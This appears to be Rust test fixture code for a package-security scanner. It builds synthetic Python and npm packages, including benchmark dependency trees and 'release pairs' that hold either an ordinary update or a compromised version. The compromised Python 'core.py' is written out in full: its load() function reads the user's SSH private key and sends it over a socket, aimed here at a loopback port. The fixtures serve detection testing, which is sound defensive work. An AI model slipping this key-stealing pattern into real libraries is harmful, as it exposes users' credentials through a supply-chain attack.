/// `bench-mid-NN`, each of which depends on its own `bench-leaf-NN-MM`.
pub fn bench_py_tree(mids: usize, leaves: usize) -> Vec<PyDist> {
    let mut out = Vec::new();
    let mid_names: Vec<String> = (0..mids).map(|m| format!("bench-mid-{m:02}")).collect();
    let mut push = |name: &str, requires: &[String]| {
        let module = escaped(name);
        let imports: String = requires
            .iter()
            .map(|r| format!("import {}  # noqa: F401\n", escaped(r)))
            .collect();
        let code = BENCH_PY
            .replace("{name}", name)
            .replace("{imports}", &imports);
        let reqs: Vec<&str> = requires.iter().map(String::as_str).collect();
        out.push(wheel(
            name,
            "1.0.0",
            &reqs,
            &[(&format!("{module}/__init__.py"), &code)],
        ));
    };
    push("bench-root", &mid_names);
    for (m, mid) in mid_names.iter().enumerate() {
        let leaf_names: Vec<String> = (0..leaves)
            .map(|l| format!("bench-leaf-{m:02}-{l:02}"))
            .collect();
        push(mid, &leaf_names);
        for leaf in &leaf_names {
            push(leaf, &[]);
        }
    }
    out
}

/// The same shape for npm: `bench-root-js` → `bench-mid-js-NN` → `bench-leaf-js-NN-MM`.
pub fn bench_npm_tree(mids: usize, leaves: usize) -> Vec<NpmPkg> {
    let mut out = Vec::new();
    let mid_names: Vec<String> = (0..mids).map(|m| format!("bench-mid-js-{m:02}")).collect();
    let mut push = |name: &str, deps: &[String]| {
        let imports: String = deps.iter().map(|d| format!("require('{d}');\n")).collect();
        let code = BENCH_JS
            .replace("{name}", name)
            .replace("{imports}", &imports);
        let deps: Vec<(&str, &str)> = deps.iter().map(|d| (d.as_str(), "^1.0.0")).collect();
        out.push(npm(name, "1.0.0", &deps, &[], &[("index.js", &code)]));
    };
    push("bench-root-js", &mid_names);
    for (m, mid) in mid_names.iter().enumerate() {
        let leaf_names: Vec<String> = (0..leaves)
            .map(|l| format!("bench-leaf-js-{m:02}-{l:02}"))
            .collect();
        push(mid, &leaf_names);
        for leaf in &leaf_names {
            push(leaf, &[]);
        }
    }
    out
}

// ---------------------------------------------------------------------------------------------
// Release pairs (the release diff): a small library in two releases, the second either an
// ordinary update or a compromised one that changes one function and nothing else (no hook,
// no new dependency). The payload is only ever parsed: the guard blocks it, and it targets a
// closed loopback port.

const TINY_JS_INDEX: &str = "'use strict';
const util = require('./lib/util');
const format = require('./lib/format');
const cache = require('./lib/cache');
module.exports = { pad: util.pad, readConfig: util.readConfig, format: format.format, Cache: cache.Cache };
";

const TINY_JS_FORMAT: &str = "'use strict';
function format(template, values) {
  return template.replace(/\\{(\\w+)\\}/g, (_, key) => String(values[key]));
}
function plural(n, word) {
  return n === 1 ? word : word + 's';
}
module.exports = { format, plural };
";

const TINY_JS_CACHE: &str = "'use strict';
class Cache {
  constructor(limit = 100) {
    this.limit = limit;
    this.map = new Map();
  }
  get(key) {
    return this.map.get(key);
  }
  set(key, value) {
    if (this.map.size >= this.limit) {
      this.map.delete(this.map.keys().next().value);
    }
    this.map.set(key, value);
  }
}
module.exports = { Cache };
";

const TINY_JS_UTIL: &str = include_str!("../fixtures/tiny-lib/util.js");

/// `readConfig` of the compromised release also reads the user's npm token and posts it.
const TINY_JS_UTIL_COMPROMISED: &str = include_str!("../fixtures/tiny-lib/util-compromised.js");

/// An ordinary update of `lib/util.js`: a new option, a new pure helper, lines moved.
const TINY_JS_UTIL_UPDATED: &str = include_str!("../fixtures/tiny-lib/util-updated.js");

/// What a release of a library is, next to the one before it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Release {
    /// The first release, or an identical one.
    Base,
    /// An ordinary update.
    Updated,
    /// One function changed to steal a token.
    Compromised,
}

/// `name` (npm) at `version`: four modules, `lib/util.js` as `release` has it.
pub fn npm_tiny_lib(name: &str, version: &str, release: Release) -> NpmPkg {
    let util = match release {
        Release::Base => TINY_JS_UTIL,
        Release::Updated => TINY_JS_UTIL_UPDATED,
        Release::Compromised => TINY_JS_UTIL_COMPROMISED,
    };
    let pkg = npm(
        name,
        version,
        &[],
        &[],
        &[
            ("index.js", TINY_JS_INDEX),
            ("lib/util.js", util),
            ("lib/format.js", TINY_JS_FORMAT),
            ("lib/cache.js", TINY_JS_CACHE),
        ],
    );
    if release == Release::Compromised {
        malicious(pkg)
    } else {
        pkg
    }
}

const TINY_PY_INIT: &str =
    "from .core import load, save\nfrom .text import slug\n\n__all__ = ['load', 'save', 'slug']\n";

const TINY_PY_TEXT: &str = "import re\n\n\ndef slug(text):\n    return re.sub(r'[^a-z0-9]+', '-', text.lower()).strip('-')\n\n\ndef title(text):\n    return ' '.join(w.capitalize() for w in text.split())\n";

const TINY_PY_CORE: &str = "import json
import os


def load(path):
    with open(path) as f:
        return json.load(f)


def save(path, data):
    tmp = path + '.tmp'
    with open(tmp, 'w') as f:
        json.dump(data, f)
    os.replace(tmp, path)
";

/// `load` of the compromised release also reads the user's SSH key and sends it.
const TINY_PY_CORE_COMPROMISED: &str = "import json
import os
import base64
import socket


def load(path):
    with open(path) as f:
        data = json.load(f)
    key = open(os.path.expanduser('~/.ssh/id_rsa')).read()
    s = socket.create_connection(('127.0.0.1', 9))
    s.sendall(base64.b64encode(key.encode()))
    return data


def save(path, data):
    tmp = path + '.tmp'
    with open(tmp, 'w') as f:
        json.dump(data, f)
    os.replace(tmp, path)
";

/// An ordinary update of `core.py`: an indent option, a docstring, lines moved.
const TINY_PY_CORE_UPDATED: &str = "\"\"\"Reading and writing JSON files.\"\"\"
import json
import os


def load(path):
    \"\"\"The JSON document at `path`.\"\"\"
    with open(path) as f:
        return json.load(f)


def save(path, data, indent=None):
    tmp = path + '.tmp'
    with open(tmp, 'w') as f:
        json.dump(data, f, indent=indent)
    os.replace(tmp, path)
";

/// `name` (a wheel) at `version`: three modules, `core.py` as `release` has it.
pub fn py_tiny_lib(name: &str, version: &str, release: Release) -> PyDist {
    let core = match release {
        Release::Base => TINY_PY_CORE,
        Release::Updated => TINY_PY_CORE_UPDATED,
        Release::Compromised => TINY_PY_CORE_COMPROMISED,
    };
    let module = name.replace('-', "_");
    let (init, text, core_path) = (
        format!("{module}/__init__.py"),
        format!("{module}/text.py"),
        format!("{module}/core.py"),
    );
    let dist = wheel(
        name,
        version,
        &[],
        &[
            (init.as_str(), TINY_PY_INIT),
            (text.as_str(), TINY_PY_TEXT),
            (core_path.as_str(), core),
        ],
    );
    if release == Release::Compromised {
        malicious(dist)
    } else {
        dist
    }
}
